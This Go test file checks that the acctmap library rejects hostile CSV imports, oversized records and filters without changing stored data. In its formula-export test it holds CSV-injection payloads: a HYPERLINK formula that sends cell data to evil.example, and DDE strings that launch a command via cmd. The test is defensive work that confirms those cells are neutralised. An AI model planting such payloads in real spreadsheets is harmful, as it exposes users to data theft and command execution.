package acctmap_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"maps"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/acctmap/acctmap"
	"github.com/acctmap/acctmap/csvsource"
	"github.com/acctmap/acctmap/memstore"
)

// hostileNet is a network with one org, its admin, a CSV data source and a
// pushed one that already hold data, and a population on each: what a bad
// input must leave untouched.
type hostileNet struct {
	store      *memstore.Store
	net        *acctmap.Network
	ann        *acctmap.Actor
	csv, crm   acctmap.DataSource
	pop        acctmap.Population
	popCRM     acctmap.Population
	importSpec acctmap.CSVImport
	// an offline partner with data, for reports
	off    acctmap.Org
	offPop acctmap.Population
}

func newHostileNet(t *testing.T) *hostileNet {
	t.Helper()
	ctx := context.Background()
	h := &hostileNet{store: memstore.New()}
	h.net = acctmap.New(h.store, acctmap.WithClock(fixedClock()))
	mustOrg(t, h.net, "acme", "Acme")
	must[acctmap.User](t, "AddUser")(h.net.AddUser(ctx, acctmap.User{ID: "ann", OrgID: "acme", Name: "Ann", Role: acctmap.RoleAdmin}))
	h.ann = h.net.As("ann")
	h.csv = must[acctmap.DataSource](t, "CreateDataSource")(h.ann.CreateDataSource(ctx, acctmap.NewDataSource{Name: "Upload"}))
	h.importSpec = acctmap.CSVImport{Mapping: csvsource.Mapping{Name: "Company", Website: "Website", ID: "Id"}, FileName: "accounts.csv"}
	must[acctmap.ImportSummary](t, "ImportCSV")(h.ann.ImportCSV(ctx, h.csv.ID, strings.NewReader("Id,Company,Website,Stage\nk1,Keep,keep.com,Customer\n"), h.importSpec))
	h.crm = must[acctmap.DataSource](t, "CreateDataSource")(h.ann.CreateDataSource(ctx, acctmap.NewDataSource{Name: "CRM", Kind: acctmap.PushedSource}))
	must[acctmap.ImportSummary](t, "UpsertRecords")(h.ann.UpsertRecords(ctx, h.crm.ID, []acctmap.RecordInput{{ID: "c1", Name: "Keep", Website: "keep.com", Fields: map[string]string{"Stage": "Customer"}}}))
	h.pop = must[acctmap.Population](t, "CreatePopulation")(h.ann.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: h.csv.ID, Kind: acctmap.Customers}))
	h.popCRM = must[acctmap.Population](t, "CreatePopulation")(h.ann.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: h.crm.ID, Kind: acctmap.Custom, Name: "All"}))
	h.off = must[acctmap.Org](t, "CreateOfflinePartner")(h.ann.CreateOfflinePartner(ctx, "Reseller"))
	offDS := must[acctmap.DataSource](t, "CreateDataSource")(h.ann.CreateDataSource(ctx, acctmap.NewDataSource{OrgID: h.off.ID, Name: "Reseller upload"}))
	must[acctmap.ImportSummary](t, "ImportCSV")(h.ann.ImportCSV(ctx, offDS.ID, strings.NewReader("Company,Website\nKeep,keep.com\n"), acctmap.CSVImport{Mapping: nameWebsite}))
	h.offPop = must[acctmap.Population](t, "CreatePopulation")(h.ann.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: offDS.ID, Kind: acctmap.Customers}))
	return h
}

// gen is an io.Reader of a prefix and then pattern repeated up to n bytes
// in all: a file of any size without the memory.
type gen struct {
	prefix, pattern string
	n, read         int64
	onRead          func(read int64)
}

func (g *gen) Read(p []byte) (int, error) {
	if g.read >= g.n {
		return 0, io.EOF
	}
	p = p[:min(int64(len(p)), g.n-g.read)]
	i := 0
	for i < len(p) {
		if off := g.read + int64(i); off < int64(len(g.prefix)) {
			i += copy(p[i:], g.prefix[off:])
			continue
		}
		off := (g.read + int64(i) - int64(len(g.prefix))) % int64(len(g.pattern))
		i += copy(p[i:], g.pattern[off:])
	}
	g.read += int64(i)
	if g.onRead != nil {
		g.onRead(g.read)
	}
	return i, nil
}

const twoGiB = 2 << 30

// TestHostileCSV is the catalogue of bad CSV files: for each, the exact
// error the user gets from ImportCSV (naming the file, line, column and
// header where there is one), the sentinels it wraps, and that the data
// source kept its previous content (storetest.Dump before and after).
// Inputs the reader accepts by design are in the catalogue too, with what
// they give.
func TestHostileCSV(t *testing.T) {
	t.Parallel()
	idMapping := csvsource.Mapping{Name: "Company", Website: "Website", ID: "Id"}
	tests := []struct {
		name    string
		input   func() io.Reader
		mapping csvsource.Mapping // default: Id, Company, Website
		opts    []csvsource.Option
		// want is the exact message; "": the import succeeds.
		want string
		is   []error
		// accepted checks a successful import's records, rejected its
		// rejections.
		accepted func(t *testing.T, recs map[string]acctmap.Record)
		rejected []acctmap.Rejection
	}{{
		name:  "empty file",
		input: func() io.Reader { return strings.NewReader("") },
		want:  "acctmap: import: accounts.csv: no header line: the input is empty",
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrNoHeader},
	}, {
		name:  "blank lines only",
		input: func() io.Reader { return strings.NewReader("\n\r\n\n") },
		want:  "acctmap: import: accounts.csv: no header line: the input has only blank lines",
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrNoHeader},
	}, {
		// Replacing the data with nothing is never what an upload means.
		name:  "header only",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website\n") },
		want:  "acctmap: import: accounts.csv has a header and no data rows; the data source keeps its records: invalid input",
		is:    []error{acctmap.ErrInvalidInput},
	}, {
		name:  "no row gives a key (a wrong mapping)",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website\n1,,n/a\n2,,-\n") },
		want: `acctmap: import: none of the 2 rows of accounts.csv gave a usable key (line 2: no company name and website "n/a": no company domain); ` +
			"check the column mapping; the data source keeps its records: invalid input",
		is: []error{acctmap.ErrInvalidInput},
	}, {
		name: "binary file (PNG)",
		input: func() io.Reader {
			return bytes.NewReader([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00\x5c\x72\xa8\x66"))
		},
		want: `acctmap: import: accounts.csv: not a CSV file: this is a PNG image, not a list: export the list as CSV`,
		is:   []error{acctmap.ErrInvalidInput, csvsource.ErrNotCSV},
	}, {
		name: "binary file (zip) with NUL bytes",
		input: func() io.Reader {
			return bytes.NewReader([]byte("PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xb4\x1e\xe2\x01\x00\x00"))
		},
		want: `acctmap: import: accounts.csv: not a CSV file: this is a zip archive: extract the CSV file from it and import that`,
		is:   []error{acctmap.ErrInvalidInput, csvsource.ErrNotCSV},
	}, {
		name:  "10 MB single field",
		input: func() io.Reader { return &gen{prefix: "Id,Company,Website\n1,Acme,", pattern: "a", n: 10 << 20} },
		want:  `acctmap: import: accounts.csv:2:8 (column "Website"): field is larger than 65536 bytes`,
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name:  "10 MB quoted field over many lines",
		input: func() io.Reader { return &gen{prefix: "Id,Company,Website\n1,\"Acme", pattern: "line\n", n: 10 << 20} },
		want:  `acctmap: import: accounts.csv:2:3 (column "Company"): field is larger than 65536 bytes`,
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name: "field over a configured limit",
		input: func() io.Reader {
			return strings.NewReader("Id,Company,Website\n1,Acme,acme.com\n2," + strings.Repeat("n", 2000) + ",b.com\n")
		},
		opts: []csvsource.Option{csvsource.WithMaxFieldBytes(1024)},
		want: `acctmap: import: accounts.csv:3:3 (column "Company"): field is larger than 1024 bytes`,
		is:   []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name:  "100k columns",
		input: func() io.Reader { return &gen{prefix: "Id,Company,Website", pattern: ",x", n: 18 + 2*100_000} },
		want:  "acctmap: import: accounts.csv:1: row has more than 10000 columns",
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name:  "columns over a configured limit",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website,a,b,c\n") },
		opts:  []csvsource.Option{csvsource.WithMaxColumns(5)},
		want:  "acctmap: import: accounts.csv:1: row has more than 5 columns",
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name:  "2 GB without a newline",
		input: func() io.Reader { return &gen{pattern: "a", n: twoGiB} },
		want:  "acctmap: import: accounts.csv:1:1: field is larger than 65536 bytes",
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name: "2 GB row of short fields without a newline",
		input: func() io.Reader {
			return &gen{prefix: "Id,Company,Website\n", pattern: strings.Repeat("b", 999) + ",", n: twoGiB}
		},
		want: "acctmap: import: accounts.csv:2: row is larger than 1048576 bytes",
		is:   []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name: "invalid UTF-8 after the first 64 KiB",
		input: func() io.Reader {
			return strings.NewReader("Id,Company,Website\n" + strings.Repeat("1,Acme,acme.com\n", 5000) + "2,Bad\xffname,bad.com\n")
		},
		want: `acctmap: import: accounts.csv:5002:6 (column "Company"): invalid UTF-8 (byte 0xff)`,
		is:   []error{acctmap.ErrInvalidInput, csvsource.ErrEncoding},
	}, {
		name:  "invalid UTF-8 with UTF-8 forced",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website\n1,Acm\xe9,acme.com\n") },
		opts:  []csvsource.Option{csvsource.WithEncoding("utf-8")},
		want:  `acctmap: import: accounts.csv:2:6 (column "Company"): invalid UTF-8 (byte 0xe9)`,
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrEncoding},
	}, {
		// Not UTF-8 in the first 64 KiB: read as Windows-1252, by design
		// (Excel's "CSV" on Windows).
		name:  "invalid UTF-8 at the start: Windows-1252",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website\n1,Caf\xe9 Soci\xe9t\xe9,cafe.fr\n") },
		accepted: func(t *testing.T, recs map[string]acctmap.Record) {
			if got := recs["1"].Name; got != "Café Société" {
				t.Errorf("name = %q, want the Windows-1252 reading %q", got, "Café Société")
			}
		},
	}, {
		name:  "mixed delimiters",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website\n1,Acme,acme.com\n2;Beta;beta.com\n") },
		want:  "acctmap: import: accounts.csv:3: row has 1 field, the header has 3",
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrRaggedRow},
	}, {
		name:  "semicolon header, comma rows",
		input: func() io.Reader { return strings.NewReader("Id;Company;Website\n1,Acme,acme.com\n") },
		want:  "acctmap: import: accounts.csv:2: row has 1 field, the header has 3",
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrRaggedRow},
	}, {
		name:  "unbalanced quote",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website\n1,\"Acme,acme.com\n2,Beta,beta.com\n") },
		want:  `acctmap: import: accounts.csv:2:3 (column "Company"): quoted field not closed: missing " before the end of the input`,
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrQuote},
	}, {
		// Control characters in values are kept as they are: stores keep
		// any bytes, and exports quote them.
		name:  "control characters in a name",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website\n1,Ac\x00me\x1b[31m\x07,acme.com\n") },
		accepted: func(t *testing.T, recs map[string]acctmap.Record) {
			if got := recs["1"].Name; got != "Ac\x00me\x1b[31m\x07" {
				t.Errorf("name = %q, want it as given", got)
			}
		},
	}, {
		// Ids are checked as a pushed record's are: the row is refused, the
		// others imported.
		name: "control characters in the id column",
		input: func() io.Reader {
			return strings.NewReader("Id,Company,Website\na\x01b,Acme,acme.com\nok,Beta,beta.com\n")
		},
		rejected: []acctmap.Rejection{{Line: 2, Reason: `record id in column "Id" is longer than 200 bytes or has control characters`}},
		accepted: onlyRecord("ok"),
	}, {
		name: "id of 60 KB",
		input: func() io.Reader {
			return strings.NewReader("Id,Company,Website\n" + strings.Repeat("i", 60_000) + ",Acme,acme.com\nok,Beta,beta.com\n")
		},
		rejected: []acctmap.Rejection{{Line: 2, Reason: `record id in column "Id" is longer than 200 bytes or has control characters`}},
		accepted: onlyRecord("ok"),
	}, {
		name: "name of 100k characters",
		input: func() io.Reader {
			return strings.NewReader("Id,Company,Website\n1," + strings.Repeat("n", 100_000) + ",acme.com\n")
		},
		want: `acctmap: import: accounts.csv:2:3 (column "Company"): field is larger than 65536 bytes`,
		is:   []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name: "website of 100k characters",
		input: func() io.Reader {
			return strings.NewReader("Id,Company,Website\n1,Acme,https://" + strings.Repeat("w", 100_000) + ".com\n")
		},
		want: `acctmap: import: accounts.csv:2:8 (column "Website"): field is larger than 65536 bytes`,
		is:   []error{acctmap.ErrInvalidInput, csvsource.ErrTooLarge},
	}, {
		name:    "mapping names a missing column",
		input:   func() io.Reader { return strings.NewReader("Account,URL\nAcme,acme.com\n") },
		mapping: csvsource.Mapping{Name: "Company", Website: "Website"},
		want:    `acctmap: import: accounts.csv:1 (column "Company"): Name column not found; the header has "Account", "URL"`,
		is:      []error{acctmap.ErrInvalidInput, csvsource.ErrMissingColumn},
	}, {
		name:  "duplicate header",
		input: func() io.Reader { return strings.NewReader("Id,Company,Website,company\n1,A,a.com,B\n") },
		want:  `acctmap: import: accounts.csv:1:20 (column "company"): duplicate column name: column 2 "Company" and column 4 "company"`,
		is:    []error{acctmap.ErrInvalidInput, csvsource.ErrDuplicateHeader},
	}}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			ctx := context.Background()
			h := newHostileNet(t)
			before := snapshot(t, h.store)
			imp := h.importSpec
			if tc.mapping.Name != "" {
				imp.Mapping = tc.mapping
			} else {
				imp.Mapping = idMapping
			}
			imp.Options = tc.opts
			sum, err := h.ann.ImportCSV(ctx, h.csv.ID, tc.input(), imp)
			if tc.want == "" {
				if err != nil {
					t.Fatalf("ImportCSV: %v", err)
				}
				tc.accepted(t, records(t, h.ann, h.store, h.csv.ID))
				if d := cmp.Diff(tc.rejected, sum.Rejections, cmpopts.EquateEmpty(), cmpopts.IgnoreFields(acctmap.Rejection{}, "Column", "Field", "Value", "Err")); d != "" {
					t.Errorf("rejections (-want +got):\n%s", d)
				}
				return
			}
			switch {
			case err == nil:
				t.Errorf("ImportCSV succeeded (%d rows, %d accepted), want an error", sum.Rows, sum.Accepted)
			case err.Error() != tc.want:
				t.Errorf("ImportCSV error:\n got %q\nwant %q", err, tc.want)
			}
			for _, s := range tc.is {
				if !errors.Is(err, s) {
					t.Errorf("ImportCSV error %v does not wrap %v", err, s)
				}
			}
			if n := sentinelOf(err); strings.Contains(n, "+") {
				t.Errorf("ImportCSV error wraps several sentinels: %s", n)
			}
			if d := diffSnapshots(before, snapshot(t, h.store)); d != "" {
				t.Errorf("the failed import changed the store (-before +after):\n%s", d)
			}
		})
	}
}

// TestHostileCSVMemoryBounded imports 2 GB files without a line break and
// checks that the import stops after a few MiB of input with the heap
// never more than 64 MiB above where it started. It does not run in
// parallel, so that the heap is its own.
func TestHostileCSVMemoryBounded(t *testing.T) {
	ctx := context.Background()
	h := newHostileNet(t)
	for _, input := range []struct {
		name            string
		prefix, pattern string
	}{
		{"one field", "", "a"},
		{"short fields", "Id,Company,Website\n", strings.Repeat("b", 99) + ","},
		{"quoted field", "Id,Company,Website\n1,\"", "x\r\n"},
	} {
		runtime.GC()
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		base, peak := ms.HeapInuse, ms.HeapInuse
		next := int64(0)
		g := &gen{prefix: input.prefix, pattern: input.pattern, n: twoGiB, onRead: func(read int64) {
			if read >= next { // every 256 KiB: ReadMemStats stops the world
				next = read + 256<<10
				runtime.ReadMemStats(&ms)
				peak = max(peak, ms.HeapInuse)
			}
		}}
		_, err := h.ann.ImportCSV(ctx, h.csv.ID, g, h.importSpec)
		if !errors.Is(err, csvsource.ErrTooLarge) {
			t.Errorf("%s: ImportCSV of 2 GB without a line break: %v, want ErrTooLarge", input.name, err)
		}
		if g.read > 8<<20 {
			t.Errorf("%s: ImportCSV read %d MiB of the input before failing, want it to stop at the limits", input.name, g.read>>20)
		}
		if grew := int64(peak) - int64(base); grew > 64<<20 {
			t.Errorf("%s: the heap grew by %d MiB during the import, want at most 64", input.name, grew>>20)
		}
		t.Logf("%s: read %d KiB, heap in use grew by at most %d KiB", input.name, g.read>>10, (int64(peak)-int64(base))>>10)
	}
}

// TestHostilePushedRecords: pushed records are bounded as CSV rows are
// (values at 64 KiB, field names at 1,000 bytes, 1,000 fields, ids at 200
// bytes without control characters): a record over a bound is refused with
// the reason, and nothing is stored.
func TestHostilePushedRecords(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("n", 100_000)
	tests := []struct {
		name   string
		in     acctmap.RecordInput
		reason string // the exact rejection
	}{
		{"no id", acctmap.RecordInput{Name: "Acme", Website: "acme.com"}, "record has no id"},
		{"id of 300 bytes", acctmap.RecordInput{ID: strings.Repeat("i", 300), Name: "Acme"}, "record id is longer than 200 bytes or has control characters"},
		{"id with a control character", acctmap.RecordInput{ID: "a\x00b", Name: "Acme"}, "record id is longer than 200 bytes or has control characters"},
		{"no key", acctmap.RecordInput{ID: "1", Website: "n/a"}, "no company name, and website: normalize: \"n/a\": placeholder (no company domain)"},
		{"1001 fields", acctmap.RecordInput{ID: "1", Name: "Acme", Fields: manyFields(1001)}, "record has 1001 fields, more than 1000"},
		{"name of 100k characters", acctmap.RecordInput{ID: "1", Name: long, Website: "acme.com"}, "name is longer than 65536 bytes (field names: 1000)"},
		{"website of 100k characters", acctmap.RecordInput{ID: "1", Name: "Acme", Website: "https://" + long + ".com"}, "website is longer than 65536 bytes (field names: 1000)"},
		{"field value of 100k characters", acctmap.RecordInput{ID: "1", Name: "Acme", Fields: map[string]string{"Notes": long}}, `field "Notes" is longer than 65536 bytes (field names: 1000)`},
		{"alias of 100k characters", acctmap.RecordInput{ID: "1", Name: "Acme", Aliases: []string{long}}, "alias is longer than 65536 bytes (field names: 1000)"},
		{"field name of 100k characters", acctmap.RecordInput{ID: "1", Name: "Acme", Fields: map[string]string{long: "x"}}, "a field name is longer than 65536 bytes (field names: 1000)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			h := newHostileNet(t)
			before := snapshot(t, h.store)
			sum, err := h.ann.UpsertRecords(context.Background(), h.crm.ID, []acctmap.RecordInput{tc.in})
			switch {
			case err != nil:
				t.Fatalf("UpsertRecords: %v", err)
			case sum.Accepted != 0 || sum.Rejected != 1:
				t.Errorf("summary: %d accepted, %d rejected; want the record refused", sum.Accepted, sum.Rejected)
			case sum.Rejections[0].Reason != tc.reason:
				t.Errorf("rejection reason %q, want %q", sum.Rejections[0].Reason, tc.reason)
			}
			// A sync that writes no record still counts as one: the data
			// source's Version and UpdatedAt move. Nothing else may.
			after := snapshot(t, h.store)
			if d := cmp.Diff(before, after, cmpopts.EquateEmpty(), cmpopts.IgnoreFields(acctmap.DataSource{}, "Version", "UpdatedAt")); d != "" {
				if len(d) > 2000 {
					d = d[:2000] + "…"
				}
				t.Errorf("the refused record changed the store (-before +after):\n%s", d)
			}
		})
	}
}

// onlyRecord checks that the import kept exactly the record with this id.
func onlyRecord(id string) func(t *testing.T, recs map[string]acctmap.Record) {
	return func(t *testing.T, recs map[string]acctmap.Record) {
		t.Helper()
		if _, ok := recs[id]; !ok || len(recs) != 1 {
			t.Errorf("records %q, want only %q", slices.Sorted(maps.Keys(recs)), id)
		}
	}
}

func manyFields(n int) map[string]string {
	m := make(map[string]string, n)
	for i := range n {
		m[fmt.Sprint("f", i)] = "x"
	}
	return m
}

// TestHostileNamesAndFilters: names of 100k characters everywhere a name
// is given, and filters built to take memory or time: each call fails with
// the exact message, and nothing is written.
func TestHostileNamesAndFilters(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	long := strings.Repeat("n", 100_000)
	values := func(n, size int) []string {
		out := make([]string, n)
		for i := range out {
			out[i] = fmt.Sprintf("%0*d", size, i)
		}
		return out
	}
	cond := func(c acctmap.Condition) acctmap.Filter { return acctmap.Filter{All: []acctmap.Condition{c}} }
	many := make([]acctmap.Condition, 201)
	for i := range many {
		many[i] = acctmap.Condition{Field: "Stage", Op: acctmap.IsEmpty}
	}
	tests := []struct {
		name string
		call func(h *hostileNet) error
		want string
	}{
		{"org name", func(h *hostileNet) error { _, err := h.net.CreateOrg(ctx, acctmap.Org{Name: long}); return err },
			"acctmap: org name is longer than 200 bytes: invalid input"},
		{"user name", func(h *hostileNet) error {
			_, err := h.net.AddUser(ctx, acctmap.User{OrgID: "acme", Name: long, Role: acctmap.RoleAdmin})
			return err
		}, "acctmap: user name is longer than 200 bytes: invalid input"},
		{"data source name", func(h *hostileNet) error {
			_, err := h.ann.CreateDataSource(ctx, acctmap.NewDataSource{Name: long})
			return err
		}, "acctmap: data source name is longer than 200 bytes: invalid input"},
		{"population name", func(h *hostileNet) error {
			_, err := h.ann.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: h.crm.ID, Kind: acctmap.Custom, Name: long})
			return err
		}, "acctmap: population name is longer than 200 bytes: invalid input"},
		{"population description", func(h *hostileNet) error {
			_, err := h.ann.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: h.crm.ID, Kind: acctmap.Custom, Name: "X", Description: long})
			return err
		}, `acctmap: population "X": description longer than 2000 bytes: invalid input`},
		{"offline partner name", func(h *hostileNet) error { _, err := h.ann.CreateOfflinePartner(ctx, long); return err },
			"acctmap: offline partner name is longer than 200 bytes: invalid input"},
		{"field preset name", func(h *hostileNet) error { return h.ann.SaveFieldPreset(ctx, long, []string{"name"}) },
			"acctmap: field preset name is longer than 200 bytes: invalid input"},
		{"org id", func(h *hostileNet) error {
			_, err := h.net.CreateOrg(ctx, acctmap.Org{ID: long, Name: "X"})
			return err
		},
			`acctmap: org id "nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn" is too long or has control characters: invalid input`},
		{"in list of 10001 values", func(h *hostileNet) error {
			_, err := h.ann.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: h.crm.ID, Kind: acctmap.Custom, Name: "Big",
				Filter: cond(acctmap.Condition{Field: "Stage", Op: acctmap.In, Values: values(10001, 1)})})
			return err
		}, `acctmap: population "Big": filter all[0]: field "Stage", operator "in": has 10001 values, more than 10000: invalid input`},
		{"not_in value of 1001 bytes", func(h *hostileNet) error {
			_, err := h.ann.PreviewPopulation(ctx, h.crm.ID, acctmap.Filter{AnyOf: [][]acctmap.Condition{{{Field: "Stage", Op: acctmap.IsEmpty},
				{Field: "Stage", Op: acctmap.NotIn, Values: values(2, 1001)}}}}, 1)
			return err
		}, `acctmap: preview: filter any_of[0][1]: field "Stage", operator "not_in": value 0 is longer than 1000 bytes or not UTF-8: invalid input`},
		{"201 conditions", func(h *hostileNet) error {
			_, err := h.ann.PreviewPopulation(ctx, h.crm.ID, acctmap.Filter{All: many}, 1)
			return err
		}, "acctmap: preview: filter has 201 conditions, more than 200: invalid input"},
		{"field name of 100k characters", func(h *hostileNet) error {
			_, err := h.ann.PreviewPopulation(ctx, h.crm.ID, cond(acctmap.Condition{Field: long, Op: acctmap.IsEmpty}), 1)
			return err
		}, `acctmap: preview: filter all[0]: field "nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn" is not a field of the data source (fields: "Stage", and the built-in id, name, website): invalid input`},
		{"report filter in list of 10001 values", func(h *hostileNet) error {
			_, err := h.ann.Report(ctx, acctmap.ReportSpec{Partner: h.off.ID, Population: h.popCRM.ID, PartnerPopulation: h.offPop.ID,
				Filter: cond(acctmap.Condition{Field: "my.name", Op: acctmap.In, Values: values(10001, 1)})})
			return err
		}, `acctmap: report: filter all[0]: field "my.name", operator "in": has 10001 values, more than 10000: invalid input`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			h := newHostileNet(t)
			before := snapshot(t, h.store)
			err := tc.call(h)
			if err == nil || err.Error() != tc.want {
				t.Errorf("error:\n got %v\nwant %s", err, tc.want)
			}
			if !errors.Is(err, acctmap.ErrInvalidInput) {
				t.Errorf("error %v does not wrap ErrInvalidInput", err)
			}
			if d := diffSnapshots(before, snapshot(t, h.store)); d != "" {
				t.Errorf("the refused call changed the store (-before +after):\n%s", d)
			}
		})
	}
	// The largest filter allowed runs: 10,000 values of 1,000 bytes.
	h := newHostileNet(t)
	pv, err := h.ann.PreviewPopulation(ctx, h.crm.ID, cond(acctmap.Condition{Field: "Stage", Op: acctmap.In, Values: append(values(9999, 1000), "customer")}), 5)
	if err != nil || pv.Count != 1 {
		t.Errorf("a filter of 10,000 values: %d records, %v; want the one record", pv.Count, err)
	}
}

// TestHostileExportNeutralizesFormulas exports a report whose values, on
// both sides, start with what a spreadsheet runs as a formula (=, +, -, @,
// tab, carriage return) and checks the CSV bytes: every such cell starts
// with an apostrophe followed by the value, and other cells are as they
// were.
func TestHostileExportNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	w := newWorld(t)
	partner(t, w.adminA, w.adminB, "org-b", "org-a")
	evil := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"=",
	}
	var inA, inB []acctmap.RecordInput
	for i, v := range evil {
		site := fmt.Sprintf("company%d.com", i)
		inA = append(inA, acctmap.RecordInput{ID: fmt.Sprint("a", i), Name: "Company " + fmt.Sprint(i), Website: site,
			Fields: map[string]string{"Note": v, "Plain": "safe value"}})
		inB = append(inB, acctmap.RecordInput{ID: fmt.Sprint("b", i), Name: v, Website: site, Fields: map[string]string{"Owner": v}})
	}
	dsA := must[acctmap.DataSource](t, "CreateDataSource")(w.adminA.CreateDataSource(ctx, acctmap.NewDataSource{Name: "CRM", Kind: acctmap.PushedSource}))
	dsB := must[acctmap.DataSource](t, "CreateDataSource")(w.adminB.CreateDataSource(ctx, acctmap.NewDataSource{Name: "CRM", Kind: acctmap.PushedSource}))
	must[acctmap.ImportSummary](t, "UpsertRecords")(w.adminA.UpsertRecords(ctx, dsA.ID, inA))
	must[acctmap.ImportSummary](t, "UpsertRecords")(w.adminB.UpsertRecords(ctx, dsB.ID, inB))
	popA := must[acctmap.Population](t, "CreatePopulation")(w.adminA.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: dsA.ID, Kind: acctmap.Customers}))
	popB := must[acctmap.Population](t, "CreatePopulation")(w.adminB.CreatePopulation(ctx, acctmap.PopulationSpec{DataSourceID: dsB.ID, Kind: acctmap.Customers}))
	mustDo(t, "SetShareRule", w.adminB.SetShareRule(ctx, popB.ID, "org-a", acctmap.ShareRule{Level: acctmap.OverlappingRecords, Fields: []string{"name", "Owner"}}))

	spec := acctmap.ReportSpec{Partner: "org-b", Population: popA.ID, PartnerPopulation: popB.ID,
		Columns: []string{"my.id", "my.Note", "my.Plain", "partner.name", "partner.Owner"}}
	rep := must[acctmap.Report](t, "Report")(w.adminA.Report(ctx, spec))
	var buf bytes.Buffer
	n := must[int](t, "ExportReport")(w.adminA.ExportReport(ctx, spec, &buf))
	if n != len(evil) || len(rep.Rows) != len(evil) {
		t.Fatalf("exported %d rows, the report has %d, want %d", n, len(rep.Rows), len(evil))
	}
	lines, err := csvRead(buf.Bytes())
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v\n%s", err, buf.String())
	}
	if len(lines) != 1+len(evil) {
		t.Fatalf("the export has %d lines, want a header and %d rows:\n%s", len(lines), len(evil), buf.String())
	}
	for i, r := range rep.Rows {
		for j, v := range r.Values {
			got := lines[1+i][j]
			want := v
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				// And the part after a tab or CR, which a split exposes.
				want = strings.NewReplacer("\t=", "\t'=", "\r=", "\r'=").Replace("'" + v)
			}
			if got != want {
				t.Errorf("row %d, column %s: exported %q, want %q", i, rep.Columns[j], got, want)
			}
			if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
				t.Errorf("row %d, column %s: the cell %q starts with a formula character", i, rep.Columns[j], got)
			}
		}
	}
	// The raw bytes: no line of the file, once unquoted, starts a cell
	// with a formula character.
	for _, bad := range []string{",=", ",+", ",-", ",@", "\n=", "\n+", "\n-", "\n@", `,"=`, `,"+`, `,"-`, `,"@`, `,"` + "\t", `,"` + "\r"} {
		if strings.Contains(buf.String(), bad) {
			t.Errorf("the export holds %q: a cell starting with a formula character", bad)
		}
	}
}

// csvRead parses CSV bytes as a spreadsheet would read them.
func csvRead(b []byte) ([][]string, error) {
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	return r.ReadAll()
}
